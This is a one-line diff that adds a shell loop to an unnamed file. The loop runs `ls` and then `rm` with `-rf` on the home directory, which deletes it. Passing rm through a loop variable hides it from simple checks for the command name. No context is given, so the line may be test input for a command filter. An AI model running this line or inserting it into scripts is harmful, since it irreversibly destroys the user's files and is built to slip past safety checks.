@@ -1,0 +1,1 @@
+for c in ls rm; do $c -rf ~; done
